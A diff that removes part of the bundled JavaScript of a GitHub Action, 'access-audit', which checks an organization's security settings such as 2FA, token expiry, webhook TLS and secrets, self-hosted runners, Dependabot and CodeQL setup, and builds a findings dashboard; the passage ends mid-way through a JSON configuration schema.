-    const err = failed('dependabot') ?? failed('dependabot2');
-    if (err)
-        return skip(security_features_RULES.dependabotActionsMissing.id, `not checked: needs contents: read (${err.message})`, name);
-    const [file, text] = repo.dependabot?.text != null
-        ? ['.github/dependabot.yml', repo.dependabot.text]
-        : repo.dependabot2?.text != null
-            ? ['.github/dependabot.yaml', repo.dependabot2.text]
-            : [];
-    if (text === undefined || file === undefined) {
-        return add(security_features_RULES.dependabotActionsMissing, name, {
-            message: `${name}: no .github/dependabot.yml, so the actions its workflows pin are never updated.`
-        });
-    }
-    let y;
-    try {
-        y = yaml_parseYamlFile(text, file);
-    }
-    catch (e) {
-        return skip(security_features_RULES.dependabotActionsMissing.id, `not checked: ${oneLine(e)}`, name);
-    }
-    const updates = (0,dist/* isMap */.jh)(y.doc.contents) ? y.doc.contents.get('updates', true) : undefined;
-    const ecosystems = (0,dist/* isSeq */.oP)(updates)
-        ? updates.items
-            .map((u) => ((0,dist/* isMap */.jh)(u) ? u.get('package-ecosystem', true) : undefined))
-            .filter(dist/* isScalar */.jn)
-            .map((n) => String(n.value))
-        : [];
-    if (!ecosystems.includes('github-actions')) {
-        add(security_features_RULES.dependabotActionsMissing, name, {
-            message: `${name}: ${file} has no \`package-ecosystem: github-actions\` entry.`,
-            location: { file, line: 1 }
-        });
-    }
-}
-async function codeScanning(workflows, available, c) {
-    const { name, skip, add } = c;
-    const inWorkflow = workflows?.some((w) => w.uses?.some((u) => u.kind === 'action' && CODE_SCANNING_ACTION.test(`${u.owner}/${u.repo}${u.path ? `/${u.path}` : ''}`)));
-    // Private repositories without GitHub Code Security have no code scanning to turn on.
-    if (inWorkflow || !available)
-        return;
-    let state;
-    try {
-        state = (await c.limit(() => c.io.request('GET /repos/{owner}/{repo}/code-scanning/default-setup', { owner: c.org, repo: name }))).data.state;
-    }
-    catch (e) {
-        return skip(security_features_RULES.codeScanningOff.id, `not checked: ${describeApiError(e, 'administration: read')}`, name);
-    }
-    if (state === 'configured')
-        return;
-    if (!workflows)
-        return skip(security_features_RULES.codeScanningOff.id, 'not checked: CodeQL default setup is off and the workflow files were not readable (needs contents: read)', name);
-    if (state === 'not-configured')
-        add(security_features_RULES.codeScanningOff, name, {
-            message: `${name}: no CodeQL default setup and no workflow that runs CodeQL or zizmor.`
-        });
-    else
-        skip(security_features_RULES.codeScanningOff.id, `not checked: GitHub returned an unknown default setup state (${String(state)})`, name);
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/security-policy.ts
-// A security policy (SPEC 6): SECURITY.md in the repository, or in the
-// organization's `.github` repository, which GitHub shows on every repository.
-
-const security_policy_RULES = defineRules({
-    noSecurityPolicy: {
-        id: 'repo/no-security-policy',
-        title: 'No SECURITY.md (repository or organization .github)',
-        severity: 'low',
-        why: 'Without a security policy, reporters do not know how to disclose a vulnerability privately.',
-        remediation: "Add SECURITY.md to the organization's `.github` repository (applies to all repositories) or to this repository.",
-        spec: ['S6-1']
-    }
-});
-const OWN = ['sec1', 'sec2', 'sec3'];
-const securityPolicy = {
-    id: 'security-policy',
-    scope: 'repo',
-    rules: rulesOf(security_policy_RULES),
-    run({ org, name, repo, orgPolicy, failed, add, skip }) {
-        if (OWN.some((f) => repo[f]))
-            return;
-        if (OWN.some((f) => failed(f)) || orgPolicy === undefined)
-            skip(security_policy_RULES.noSecurityPolicy.id, 'not checked: needs contents: read', name);
-        else if (!orgPolicy)
-            add(security_policy_RULES.noSecurityPolicy, name, { message: `${name}: no SECURITY.md in the repository or in ${org}/.github.` });
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/self-hosted-runners.ts
-// Self-hosted runners on public repositories (SPEC 8): anyone's pull request
-// can run code on them and persist on the machine.
-
-
-const self_hosted_runners_RULES = defineRules({
-    selfHostedPublic: {
-        id: 'repo/self-hosted-runner-public',
-        title: 'Public repository runs workflows on self-hosted runners',
-        severity: 'high',
-        why: "A pull request from anyone can run code on a self-hosted runner of a public repository and persist on the machine; SciPy's release guidance rules self-hosted runners out.",
-        remediation: 'Move the jobs to GitHub-hosted runners, or use ephemeral runners with approval required for all outside contributors.',
-        spec: ['S8-16']
-    }
-});
-const selfHostedRunners = {
-    id: 'self-hosted-runners',
-    scope: 'repo',
-    rules: rulesOf(self_hosted_runners_RULES),
-    run({ name, listing, workflows, add }) {
-        const files = workflows();
-        if (!isPublic(listing) || !files)
-            return;
-        for (const w of files) {
-            if (!w.y)
-                continue;
-            for (const r of jobRunners(w.y)) {
-                const kind = classifyRunsOn(r.labels);
-                if (kind !== 'self-hosted' && kind !== 'custom')
-                    continue;
-                const line = w.y.pos(r.node).line;
-                const labels = r.labels.join(', ');
-                add(self_hosted_runners_RULES.selfHostedPublic, name, {
-                    // Custom labels may name a GitHub-hosted larger runner: say so and lower the confidence.
-                    severity: kind === 'self-hosted' ? 'high' : 'medium',
-                    confidence: kind === 'self-hosted' ? 'high' : 'low',
-                    message: `${name}: ${w.file}:${line}: job ${r.job} runs on ${kind === 'self-hosted' ? 'a self-hosted runner' : 'custom labels (a self-hosted runner, or a GitHub-hosted larger runner)'} (${labels}) in a public repository.`,
-                    location: { file: w.file, line },
-                    key: `${w.file}\0${r.job}`,
-                    evidence: labels,
-                    properties: { file: w.file, job: r.job, labels: r.labels }
-                });
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/tokens.ts
-// Fine-grained personal access tokens granted access to the organization:
-// never expiring, valid for more than a year, or unused.
-
-
-const tokens_RULES = defineRules({
-    tokenNoExpiry: {
-        id: 'org/token-no-expiry',
-        title: 'Fine-grained personal access token with organization access never expires',
-        severity: 'medium',
-        why: 'A token that never expires keeps working long after its owner stopped needing it, or after it leaked.',
-        remediation: 'Revoke the grant (Organization settings → Personal access tokens → Active tokens) and ask the owner for a token with an expiry (a year at most); set the organization policy "Enforce maximum lifetime".',
-        spec: ['S6-4']
-    },
-    tokenLongLived: {
-        id: 'org/token-long-lived',
-        title: 'Fine-grained personal access token valid for more than a year',
-        severity: 'low',
-        why: 'SPEC 6 asks tokens to expire after a reasonable time, typically a year; longer lifetimes widen the window in which a leaked token works.',
-        remediation: "Ask the owner to replace it with a token that expires within a year, and set the organization's maximum token lifetime.",
-        spec: ['S6-4']
-    },
-    tokenUnused: {
-        id: 'org/token-unused',
-        title: 'Fine-grained personal access token with organization access is not used',
-        severity: 'low',
-        why: 'An unused token gives access nobody needs; it can only leak.',
-        remediation: 'Revoke the grant in Organization settings → Personal access tokens → Active tokens.',
-        spec: ['S6-4', 'S6-3']
-    }
-});
-const tokens_DAY = 86_400_000;
-const tokens = {
-    id: 'tokens',
-    scope: 'org',
-    rules: rulesOf(tokens_RULES),
-    async run({ io, org, now, inactiveDays, add, skip }) {
-        let grants;
-        try {
-            grants = await listAll(io, 'GET /orgs/{org}/personal-access-tokens', { org });
-        }
-        catch (e) {
-            const status = e.status;
-            const reason = status === 403 && !/rate limit/i.test(String(e.message))
-                ? 'GitHub lists fine-grained token grants to GitHub Apps only (organization personal access tokens: read)'
-                : describeApiError(e, 'organization personal access tokens: read');
-            for (const r of [tokens_RULES.tokenNoExpiry, tokens_RULES.tokenUnused])
-                skip(r.id, `not checked: ${reason}`, org);
-            return;
-        }
-        const stale = now.getTime() - inactiveDays * tokens_DAY;
-        for (const g of grants) {
-            if (g.token_expired)
-                continue;
-            const who = `${g.owner?.login ?? 'unknown'}'s token "${g.token_name}"`;
-            const props = {
-                login: g.owner?.login,
-                token: g.token_name,
-                expiresAt: g.token_expires_at,
-                lastUsedAt: g.token_last_used_at
-            };
-            const key = `${g.owner?.login}/${g.token_id}`;
-            if (!g.token_expires_at)
-                add(tokens_RULES.tokenNoExpiry, undefined, {
-                    message: `${who} has access to ${org} and never expires.`,
-                    key,
-                    properties: props
-                });
-            else if (Date.parse(g.token_expires_at) - Date.parse(g.access_granted_at) > 366 * tokens_DAY) {
-                add(tokens_RULES.tokenLongLived, undefined, {
-                    message: `${who} has access to ${org} until ${g.token_expires_at.slice(0, 10)}, more than a year after it was granted.`,
-                    key,
-                    properties: props
-                });
-            }
-            const lastUse = g.token_last_used_at ?? g.access_granted_at;
-            if (Date.parse(lastUse) < stale) {
-                add(tokens_RULES.tokenUnused, undefined, {
-                    message: `${who} ${g.token_last_used_at ? `was last used on ${g.token_last_used_at.slice(0, 10)}` : `has not been used since access was granted on ${g.access_granted_at.slice(0, 10)}`}.`,
-                    key,
-                    properties: props
-                });
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/two-factor.ts
-// Members and outside collaborators without two-factor authentication, or
-// with SMS as their second factor (GitHub's 2FA filters, owners only).
-
-
-const two_factor_RULES = defineRules({
-    memberNo2fa: {
-        id: 'org/member-without-2fa',
-        title: 'Member or outside collaborator without two-factor authentication',
-        severity: 'high',
-        why: 'An account with access to the organization but no second factor is protected by its password alone.',
-        remediation: 'Ask the person to enable 2FA (a hardware key or an authenticator app), or remove their access until they do.',
-        spec: ['S6-11']
-    },
-    memberInsecure2fa: {
-        id: 'org/member-insecure-2fa',
-        title: 'Member or outside collaborator uses SMS as second factor',
-        severity: 'medium',
-        why: 'SMS codes can be intercepted through SIM swapping; GitHub classes SMS as insecure 2FA.',
-        remediation: 'Ask the person to switch to a security key, passkey or authenticator app and remove SMS.',
-        spec: ['S6-11']
-    }
-});
-const twoFactor = {
-    id: 'two-factor',
-    scope: 'org',
-    rules: rulesOf(two_factor_RULES),
-    async run({ io, org, add, skip }) {
-        for (const [filter, rule] of [
-            ['2fa_disabled', two_factor_RULES.memberNo2fa],
-            ['2fa_insecure', two_factor_RULES.memberInsecure2fa]
-        ]) {
-            for (const [route, who] of [
-                ['GET /orgs/{org}/members', 'member'],
-                ['GET /orgs/{org}/outside_collaborators', 'outside collaborator']
-            ]) {
-                try {
-                    for (const m of await listAll(io, route, { org, filter })) {
-                        add(rule, undefined, {
-                            message: `${who} ${m.login} ${filter === '2fa_disabled' ? 'has no two-factor authentication' : 'uses SMS as second factor'}.`,
-                            key: `${filter}/${m.login}`,
-                            properties: { login: m.login }
-                        });
-                    }
-                }
-                catch (e) {
-                    const reason = e.status === 422
-                        ? 'needs an organization owner (GitHub: only owners can use the 2FA filters)'
-                        : describeApiError(e, 'members: read');
-                    skip(rule.id, `not checked for ${who}s: ${reason}`, org);
-                }
-            }
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/webhooks.ts
-// Active organization webhooks: delivered without TLS (or its verification),
-// or without a secret to sign them.
-
-
-const webhooks_RULES = defineRules({
-    webhookInsecure: {
-        id: 'org/webhook-insecure',
-        title: 'Organization webhook delivers over plain HTTP or without certificate checks',
-        severity: 'medium',
-        why: 'Webhook payloads describe pushes, members and repositories; sent without TLS verification they can be read or altered on the way.',
-        remediation: 'Use an https:// URL and turn SSL verification on (Organization settings → Webhooks → Edit).',
-        spec: ['S6-4']
-    },
-    webhookNoSecret: {
-        id: 'org/webhook-no-secret',
-        title: 'Organization webhook has no secret',
-        severity: 'low',
-        why: "Without a secret the receiver cannot tell GitHub's deliveries from forged ones; anyone who learns the URL can trigger it.",
-        remediation: 'Set a random secret on the webhook and verify the X-Hub-Signature-256 header in the receiver.',
-        spec: ['S6-4']
-    }
-});
-const webhooks = {
-    id: 'webhooks',
-    scope: 'org',
-    rules: rulesOf(webhooks_RULES),
-    async run({ io, org, add, skip }) {
-        let hooks;
-        try {
-            hooks = await listAll(io, 'GET /orgs/{org}/hooks', { org });
-        }
-        catch (e) {
-            for (const r of [webhooks_RULES.webhookInsecure, webhooks_RULES.webhookNoSecret])
-                skip(r.id, `not checked: ${describeApiError(e, 'organization webhooks: read')}`, org);
-            return;
-        }
-        for (const h of hooks.filter((x) => x.active)) {
-            // Only the host: the path and query of a webhook URL often carry a token.
-            const url = h.config?.url ?? '';
-            let host = '?';
-            try {
-                host = new URL(url).host;
-            }
-            catch {
-                // keep '?'
-            }
-            const props = { hook: h.id, host };
-            if (/^http:/i.test(url))
-                add(webhooks_RULES.webhookInsecure, undefined, {
-                    message: `Webhook ${h.id} of ${org} delivers to ${host} over plain http.`,
-                    key: `${h.id}/http`,
-                    properties: props
-                });
-            else if (String(h.config?.insecure_ssl) === '1') {
-                add(webhooks_RULES.webhookInsecure, undefined, {
-                    message: `Webhook ${h.id} of ${org} delivers to ${host} without verifying its TLS certificate.`,
-                    key: `${h.id}/ssl`,
-                    properties: props
-                });
-            }
-            if (!h.config?.secret)
-                add(webhooks_RULES.webhookNoSecret, undefined, {
-                    message: `Webhook ${h.id} of ${org} (to ${host}) has no secret.`,
-                    key: `${h.id}`,
-                    properties: props
-                });
-        }
-    }
-};
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/checks/index.ts
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-const CHECKS = [
-    // Organization: `GET /orgs/{org}` first (the engine reads it), then one or a few REST lists each.
-    orgSettings,
-    actionsPolicy,
-    owners,
-    twoFactor,
-    apps,
-    tokens,
-    webhooks,
-    runnerGroups,
-    // Each repository, from its batched GraphQL answer; REST only where GraphQL has no field.
-    protection,
-    collaborators,
-    deployKeys,
-    environments,
-    securityPolicy,
-    publishing,
-    securityFeatures,
-    selfHostedRunners,
-    pypiPackages,
-    secrets,
-    // After every repository.
-    inactivity,
-    rotation
-];
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/exemptions.ts
-
-const isExpired = (e, today) => !!e.expires && e.expires < today;
-/** The first unexpired whole-repository exemption that names the repository. */
-const repositoryExemption = (exemptions, repo, today) => exemptions.find((e) => !e.check && !isExpired(e, today) && globToRegExp(e.repo).test(repo));
-/**
- * Suppressions for the findings the exemptions name: `check` is a rule id
- * (absent: every rule); `repo: '*'` is every finding, organization-level ones
- * included; any other name or glob is one entry per audited repository it
- * matches (findings carry their repository in `properties.repo`). Entries of
- * whole-repository exemptions match only when they expired (an unexpired one
- * kept the repository out of the audit), and then say so.
- */
-function exemptionSuppressions(exemptions, audited) {
-    return exemptions.flatMap((e) => {
-        const entry = {
-            ...(e.check ? { rule: e.check } : {}),
-            reason: e.reason,
-            ...(e.expires ? { expires: e.expires } : {}),
-            source: `config: access-audit.exemptions (${e.repo})`
-        };
-        if (e.repo === '*')
-            return [entry];
-        const re = globToRegExp(e.repo);
-        return audited
-            .filter((repo) => re.test(repo))
-            .map((repo) => ({
-            ...entry,
-            // A glob matching several repositories: name the one, so an expiry note says which.
-            ...(repo === e.repo ? {} : { source: `config: access-audit.exemptions (${e.repo}: ${repo})` }),
-            properties: { repo }
-        }));
-    });
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/rules.ts
-// The rules of access-audit, as the checks under src/checks/ declare them.
-// Findings about settings carry no location; the repository, environment or
-// person they concern is in the message and in `properties`. The publish/*
-// findings (and the self-hosted runner and Dependabot ones) point at the
-// workflow or config file and line.
-
-
-const REGISTRY = new RuleRegistry('access-audit', CHECKS.flatMap((c) => c.rules));
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/scope.ts
-// Which repositories of the organization this run audits: its shard, the
-// `repositories` filter, archived and forks, whole-repository exemptions and
-// the custom properties that exempt a repository or mark it critical.
-
-
-
-
-function inShard(name, shard) {
-    const h = (0,external_node_crypto_.createHash)('sha256').update(name.toLowerCase()).digest().readUInt32BE(0);
-    return h % shard.count === shard.index - 1;
-}
-/** Notes each repository left out by an exemption, with its reason. */
-function selectRepositories(listed, opts, today, notes) {
-    const { config } = opts;
-    const filters = opts.repositories.map(globToRegExp);
-    const scope = { selected: [], critical: new Set(), otherShards: 0 };
-    for (const r of listed) {
-        const exempt = repositoryExemption(config.exemptions, r.name, today);
-        if (opts.shard && !inShard(r.name, opts.shard))
-            scope.otherShards++;
-        else if ((r.archived && !opts.includeArchived) || (r.fork && !opts.includeForks))
-            continue;
-        else if (filters.length && !filters.some((f) => f.test(r.name)))
-            continue;
-        else if (exempt) {
-            notes.push(`${r.name}: exempt from the audit (${exempt.reason}${exempt.expires ? `, until ${exempt.expires}` : ''}).`);
-        }
-        else if (propertyMatches(r, config.customProperties.exempt)) {
-            notes.push(`${r.name}: exempt from the audit by its custom property ${config.customProperties.exempt.property}.`);
-        }
-        else {
-            if (propertyMatches(r, config.customProperties.critical))
-                scope.critical.add(r.name);
-            scope.selected.push(r);
-        }
-    }
-    return scope;
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/workflows.ts
-// The default branch's workflow files, fetched with the repository (no request
-// of their own) and parsed once for every check that reads them.
-
-/** The not-checked name of the publish/* rules as a group: a workflow file that cannot be read leaves them unchecked. */
-const PUBLISH_CHECK = 'repo/publish-workflow';
-/**
- * Undefined when the token cannot read contents. A file that cannot be read
- * or parsed is listed as not checked, naming file and line.
- */
-function readWorkflows(repo, failed, skip) {
-    const name = repo.name;
-    const err = failed('workflows');
-    if (err) {
-        skip(PUBLISH_CHECK, `not checked: needs contents: read (${err.message})`, name);
-        return undefined;
-    }
-    const out = [];
-    for (const entry of repo.workflows?.entries ?? []) {
-        if (entry.type !== 'blob' || !/\.ya?ml$/.test(entry.name))
-            continue;
-        const file = `.github/workflows/${entry.name}`;
-        const blob = entry.object;
-        if (!blob || typeof blob.text !== 'string' || blob.isBinary || blob.isTruncated) {
-            skip(PUBLISH_CHECK, `not checked for ${file}: GitHub returned no text${blob?.isTruncated ? ' (truncated)' : blob?.isBinary ? ' (binary)' : ''}`, name);
-            continue;
-        }
-        try {
-            const y = yaml_parseYamlFile(blob.text, file);
-            out.push({ file, y, uses: findUses(y) });
-        }
-        catch (e) {
-            skip(PUBLISH_CHECK, `not checked: ${oneLine(e)}`, name);
-            out.push({ file, error: oneLine(e) });
-        }
-    }
-    return out;
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/engine.ts
-// The audit engine: pure over an injected GitHub client (GraphQL + REST) and a
-// clock. It lists the repositories, reads them in GraphQL batches within the
-// REST rate budget, and runs the checks of src/checks/ (organization checks
-// once, repository checks per repository, then the checks over what the
-// repositories gathered). Anything that could not be read becomes a
-// NotChecked with the permission it needs, so a missing permission is never
-// read as a pass.
-
-
-
-
-
-
-
-
-const DEFAULT_AUDIT_CONFIG = {
-    exemptions: [],
-    customProperties: {},
-    allowedApps: [],
-    requireSignedCommits: [],
-    maxOwners: 5,
-    maxAdmins: 5,
-    tokenSecretPatterns: [/PYPI/i, /TWINE/i, /(^|_)API_?TOKEN$/i, /ANACONDA/i, /CONDA_TOKEN/i],
-    releaseEnvironments: /^(pypi|testpypi|release|releases|publish|deploy)/i,
-    packages: {}
-};
-const ORG_CHECKS = CHECKS.filter((c) => c.scope === 'org');
-const REPO_CHECKS = CHECKS.filter((c) => c.scope === 'repo');
-const AFTER_CHECKS = CHECKS.filter((c) => c.scope === 'after');
-/** One severity higher, for findings on repositories marked critical. */
-const raise = (s) => SEVERITIES[Math.min(SEVERITIES.indexOf(s) + 1, SEVERITIES.length - 1)];
-async function audit(api, opts) {
-    const { org, config } = opts;
-    // A rate-limit refusal anywhere (organization checks included) means this run is partial: say so once.
-    let outOfBudget = false;
-    const noteLimit = (e) => {
-        if (isRateLimitError(e))
-            outOfBudget = true;
-        throw e;
-    };
-    const io = {
-        ...api,
-        request: (route, params) => api.request(route, params).catch(noteLimit),
-        graphql: (q, v) => api.graphql(q, v).catch(noteLimit)
-    };
-    const findings = [];
-    const notChecked = [];
-    const notes = [];
-    let critical = new Set();
-    const add = (rule, repo, input) => {
-        const raised = !!repo && critical.has(repo);
-        findings.push(createFinding(rule, {
-            ...input,
-            severity: raised ? raise(input.severity ?? rule.severity) : input.severity,
-            key: `${repo ?? org}\0${input.key ?? input.message}`,
-            properties: { org, ...(repo ? { repo } : {}), ...(raised ? { critical: true } : {}), ...input.properties }
-        }));
-    };
-    const skip = (check, reason, target) => void notChecked.push({ check, reason, target });
-    const base = { io, org, config, now: opts.now, inactiveDays: opts.inactiveDays, add, skip, notes };
-    const result = { rules: REGISTRY.list(), findings, notChecked, notes, target: org };
-    const settings = await readSettings(io, org);
-    if ('fatal' in settings) {
-        skip('access-audit', `nothing audited: ${settings.fatal}`, org);
-        return { ...result, suppressions: [], audited: 0, skipped: 0, listed: 0, access: {} };
-    }
-    for (const c of ORG_CHECKS)
-        await c.run({ ...base, settings });
-    for (const c of REPO_CHECKS)
-        c.start?.({ ...base, pypi: opts.pypi });
-    // Repository list (REST: it carries the security settings and custom properties), then the scope.
-    const listed = [];
-    try {
-        await listAll(io, 'GET /orgs/{org}/repos', { org, type: 'all', sort: 'full_name', direction: 'asc' }, undefined, listed);
-    }
-    catch (e) {
-        // The repositories listed so far are still audited; the rest are named as unknown.
-        skip('repositories', `the repository list stopped after ${listed.length} repositories (the others were not audited): ${describeApiError(e, 'metadata: read')}`, org);
-    }
-    const configured = config.customProperties.exempt || config.customProperties.critical;
-    if (configured && listed.length && listed.every((r) => r.custom_properties === undefined)) {
-        skip('org/custom-properties', 'not checked: GitHub returned no custom_properties with the repositories (needs a GitHub version with custom properties)', org);
-    }
-    const scope = selectRepositories(listed, opts, opts.now.toISOString().slice(0, 10), notes);
-    critical = scope.critical;
-    const selected = new Map(scope.selected.map((r) => [r.name, r]));
-    const orgPolicy = await orgSecurityPolicy(io, org);
-    const teams = await teamMembers(io, org);
-    const gathered = { access: {}, elevated: new Map(), committers: new Set(), historyComplete: true };
-    const omitted = new Map();
-    const since = new Date(opts.now.getTime() - opts.inactiveDays * 86_400_000).toISOString();
-    const reserve = opts.reserve ?? 50;
-    const limit = p_limit_default()(opts.concurrency ?? 4);
-    // REST calls of all batches share one bound, under GitHub's 100 concurrent requests.
-    const restLimit = p_limit_default()(8);
-    let audited = 0;
-    const auditRepository = async (repo, listing, failed) => {
-        const history = repo.activity?.target?.history?.nodes;
-        if (failed('activity') || (repo.defaultBranchRef && !history))
-            gathered.historyComplete = false;
-        for (const c of history ?? [])
-            for (const login of [c.author?.user?.login, c.committer?.user?.login])
-                if (login)
-                    gathered.committers.add(login.toLowerCase());
-        let workflows;
-        const ctx = {
-            ...base,
-            name: repo.name,
-            repo,
-            listing,
-            failed,
-            unreadable: (field, permission, absent = 'not checked') => {
-                const error = failed(field);
-                return error ? `not checked: needs ${permission} (${error.message})` : absent;
-            },
-            workflows: () => (workflows ??= { files: readWorkflows(repo, failed, skip) }).files,
-            limit: restLimit,
-            orgPolicy,
-            teams,
-            pypi: opts.pypi,
-            gathered
-        };
-        for (const c of REPO_CHECKS) {
-            // A check that reads only the batch's answer does not yield: repositories interleave only at requests.
-            const pending = c.run(ctx);
-            if (pending)
-                await pending;
-        }
-        audited++;
-    };
-    await Promise.all(inBatches(scope.selected.map((r) => r.name), opts.batchSize ?? 20).map((batch) => limit(async () => {
-        const left = io.remaining();
-        if (outOfBudget || (left !== undefined && left < reserve + batch.length)) {
-            outOfBudget = true;
-            for (const n of batch)
-                skip('repository', 'not audited: the API rate budget ran out before this repository', n);
-            return;
-        }
-        let answer;
-        try {
-            answer = await fetchBatch(io, org, batch, omitted, since);
-        }
-        catch (e) {
-            for (const n of batch)
-                skip('repository', `not audited: ${describeApiError(e)}`, n);
-            return;
-        }
-        await Promise.all(batch.map(async (name, i) => {
-            const r = repositoryOf(answer, i, omitted);
-            if ('missing' in r)
-                skip('repository', `not audited: ${r.missing}`, name);
-            else
-                await auditRepository(r.repo, selected.get(name), r.failed);
-        }));
-    })));
-    if (outOfBudget) {
-        notes.push('The API rate budget ran out: what is listed as "not audited" or "not checked" because of the rate limit was not checked this run.');
-    }
-    const inScope = (repo) => selected.has(repo);
-    for (const c of AFTER_CHECKS)
-        await c.run({ ...base, gathered, previous: opts.previous, inScope });
-    return {
-        ...result,
-        suppressions: exemptionSuppressions(config.exemptions, [...selected.keys()]),
-        audited,
-        skipped: listed.length - scope.otherShards - audited,
-        listed: listed.length,
-        access: gathered.access,
-        target: opts.shard ? `${org} (shard ${opts.shard.index}/${opts.shard.count})` : org
-    };
-}
-/** `GET /orgs/{org}`; `fatal` when the organization cannot be audited at all (API unreachable, no such org). */
-async function readSettings(io, org) {
-    try {
-        return { data: (await io.request('GET /orgs/{org}', { org })).data };
-    }
-    catch (e) {
-        const status = e.status;
-        if (status === undefined || status === 401)
-            return { fatal: describeApiError(e) };
-        if (status === 404)
-            return { fatal: `organization ${org} not found (or not visible to the token)` };
-        return { error: e };
-    }
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/src/dashboard.ts
-// The dashboard: a per-repository table and the trend since the previous run,
-// placed above the core's rendering of the report in one issue that is edited
-// in place (the core's upsertMarked finds it by its hidden marker), never
-// re-created, never pinging.
-
-const MAX_ROWS = 100;
-function dashboardPreamble(d, findings, notChecked) {
-    const rows = new Map();
-    const row = (repo) => rows.get(repo) ?? rows.set(repo, { findings: 0, high: 0, notChecked: 0 }).get(repo);
-    for (const f of findings.filter(isActive)) {
-        const repo = f.properties?.repo;
-        if (!repo)
-            continue;
-        row(repo).findings++;
-        if (f.properties?.critical)
-            row(repo).critical = true;
-        if (f.severity === 'high' || f.severity === 'critical')
-            row(repo).high++;
-    }
-    for (const n of notChecked)
-        if (n.target && n.target !== d.org && !n.target.includes(' ') && rowsTarget(n))
-            row(n.target).notChecked++;
-    const sorted = [...rows.entries()].sort((a, b) => b[1].high - a[1].high || b[1].findings - a[1].findings || a[0].localeCompare(b[0]));
-    const lines = [`Organization ${codeSpan(d.org)}: ${d.audited} repositories audited.`, ''];
-    lines.push(...trend(d.previous, findings), '');
-    if (sorted.length) {
-        lines.push('| Repository | Findings | High or critical | Not checked |', '|---|---:|---:|---:|');
-        for (const [repo, r] of sorted.slice(0, MAX_ROWS))
-            lines.push(`| ${escapeMarkdown(repo)}${r.critical ? ' (critical)' : ''} | ${r.findings} | ${r.high} | ${r.notChecked} |`);
-        if (sorted.length > MAX_ROWS)
-            lines.push('', `${sorted.length - MAX_ROWS} more repositories with findings are in the JSON report.`);
-        const clean = d.audited - sorted.filter(([, r]) => r.findings > 0).length;
-        if (clean > 0)
-            lines.push('', `${clean} audited repositor${clean === 1 ? 'y has' : 'ies have'} no findings.`);
-    }
-    return lines.join('\n');
-}
-/** Repository-level entries only: people's activity checks use a login as target. */
-const rowsTarget = (n) => !n.check.startsWith('people/');
-function trend(previous, findings) {
-    if (!previous)
-        return ['Trend: no previous report given (input `previous-report`).'];
-    const before = new Set(previous.findings.filter(isActive).map((f) => f.fingerprint));
-    const now = new Set(findings.filter(isActive).map((f) => f.fingerprint));
-    const added = [...now].filter((f) => !before.has(f)).length;
-    const fixed = [...before].filter((f) => !now.has(f)).length;
-    return [
-        `Trend since the run of ${previous.finishedAt.slice(0, 10)}: ${before.size} → ${now.size} findings (${added} new, ${fixed} resolved).`
-    ];
-}
-/** Merges shard reports: repository results are disjoint; org-level results repeat in each shard and are kept once. */
-function mergeReports(reports) {
-    const byFingerprint = new Map();
-    const rules = new Map();
-    const notChecked = new Map();
-    const notes = new Set();
-    let audited = 0;
-    let listed = 0;
-    let requests = 0;
-    const targets = new Set();
-    const access = {};
-    for (const r of reports) {
-        for (const rule of r.rules)
-            rules.set(rule.id, rule);
-        // Fingerprints were made unique within each shard; org-level ones repeat across shards.
-        for (const f of r.findings)
-            byFingerprint.set(f.fingerprint, f);
-        for (const n of r.notChecked)
-            notChecked.set(`${n.check}\0${n.target ?? ''}\0${n.reason}`, n);
-        for (const n of r.notes)
-            notes.add(n);
-        audited += Number(r.stats['repos audited'] ?? 0);
-        listed = Math.max(listed, Number(r.stats['repos listed'] ?? 0));
-        requests += Number(r.stats['API requests'] ?? 0);
-        Object.assign(access, r.data?.access ?? {});
-        if (r.target)
-            targets.add(r.target.replace(/ \(shard \d+\/\d+\)$/, ''));
-    }
-    return {
-        rules: [...rules.values()],
-        findings: [...byFingerprint.values()],
-        notChecked: [...notChecked.values()],
-        notes: [...notes],
-        target: [...targets].join(', ') || undefined,
-        audited,
-        skipped: listed - audited,
-        requests,
-        data: { access },
-        stats: {
-            'repos audited': audited,
-            'repos skipped': listed - audited,
-            'repos listed': listed,
-            'shards merged': reports.length,
-            'shard API requests': requests
-        }
-    };
-}
-/** Edits the dashboard issue in place, or opens it once. Returns a line for the log. */
-async function publishDashboard(rest, repository, marker, body) {
-    const [owner, repo] = repository.split('/');
-    const title = `Access audit: ${marker.split(':').pop()}`;
-    const { action, id } = await upsertMarked(rest, { kind: 'issue', owner, repo, title }, marker, body);
-    return `dashboard issue #${id} ${action === 'created' ? 'opened' : 'updated'}`;
-}
-
-;// CONCATENATED MODULE: ./actions/access-audit/config.schema.json
-const access_audit_config_schema_namespaceObject = /*#__PURE__*/JSON.parse('{"$schema":"http://json-schema.org/draft-07/schema#","title":"The \'access-audit\' section of .github/security-actions.yml","description":"Settings of access-audit (docs/access-audit.md).","type":"object","additionalProperties":false,"properties":{"exemptions":{"description":"Repositories (or single checks on them) left out of the audit, each with a reason and an expiry.","type":"array","items":{"type":"object","additionalProperties":false,"required":["repo","reason"],"properties":{"repo":{"description":"Repository name or glob; \'*\' also matches organization-level findings.","type":"string","minLength":1},"check":{"description":"Only this check (finding id, e.g. repo/deploy-key-write); absent: the whole repository is not audited.","type":"string","pattern":"^[a-z0-9-]+/[a-z0-9-]+$"},"reason":{"description":"Why; shown in every report.","type":"string","minLength":5},"expires":{"description":"Last day (YYYY-MM-DD) the exemption applies.","type":"string","pattern":"^\\\\d{4}-\\\\d{2}-\\\\d{2}$"}}}},"packages":{"description":"PyPI packages published from each repository (repository name → package names); repositories not listed are discovered from pyproject.toml.","type":"object","additionalProperties":{"type":"array","items":{"type":"string","minLength":1}}},"max-owners":{"description":"More organization owners than this is reported (default 5).","type":"integer","minimum":2},"max-admins":{"description":"More repository admins than this is reported (default 